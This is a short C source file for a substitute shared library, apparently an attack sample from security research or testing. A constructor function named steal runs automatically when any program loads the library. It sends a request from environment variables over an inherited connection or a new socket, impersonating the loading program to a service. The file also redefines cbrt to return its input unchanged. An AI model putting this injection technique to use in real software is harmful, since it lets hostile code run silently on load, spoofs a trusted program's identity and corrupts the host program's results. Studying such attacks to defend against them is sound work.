/*
 * A library in another's place: asks in the name of whatever program loads it, on a connection of its own, or says the
 * request on CONNECTION, which was there before, and lives until the end of its input.
 */
#include "attack.h"

__attribute__((constructor)) static void steal(void)
{
    char byte;
    if (getenv("CONNECTION")) {
        say(atoi(getenv("CONNECTION")), getenv("REQUEST"));
        while (read(0, &byte, 1) == 1)
            ;
    } else
        ask(dial(getenv("SOCKET"), SOCK_CLOEXEC), getenv("REQUEST"));
}

double cbrt(double number)
{
    return number;
}
